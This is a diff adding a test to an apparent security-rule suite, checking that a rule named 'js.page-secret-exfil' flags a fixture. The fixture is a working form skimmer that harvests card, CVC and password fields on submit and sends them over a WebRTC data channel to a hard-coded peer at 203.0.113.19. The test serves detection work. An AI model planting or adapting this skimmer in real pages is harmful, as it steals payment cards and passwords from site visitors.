@@ -850,3 +850,26 @@ export async function load(url, context, nextLoad) {
     ).toEqual([]);
   });
 });
+
+describe('a WebRTC data channel to a peer written into the code', () => {
+  const skimmer = (sdp: string) =>
+    rules({
+      'index.js': `function channel(data) {
+  const pc = new RTCPeerConnection({ iceServers: [] });
+  const dc = pc.createDataChannel('m');
+  dc.onopen = () => { dc.send(JSON.stringify(data)); setTimeout(() => pc.close(), 2000); };
+  pc.createOffer().then((o) => pc.setLocalDescription(o)).then(() => pc.setRemoteDescription({ type: 'answer', sdp: ${JSON.stringify(sdp)} }));
+}
+document.addEventListener('submit', (e) => {
+  const f = e.target;
+  const out = { u: location.href, f: {} };
+  for (const el of f.querySelectorAll('input, select')) if (/cc-|card|cvc|pass/i.test(el.name + el.autocomplete)) out.f[el.name || el.id] = el.value;
+  if (Object.keys(out.f).length) channel(out);
+}, true);`,
+    });
+  it('card fields sent over a data channel whose answer names the peer', () => {
+    expect(
+      skimmer('v=0\r\nc=IN IP4 203.0.113.19\r\nm=application 3479 UDP/DTLS/SCTP webrtc-datachannel\r\n'),
+    ).toContain('js.page-secret-exfil');
+  });
+});
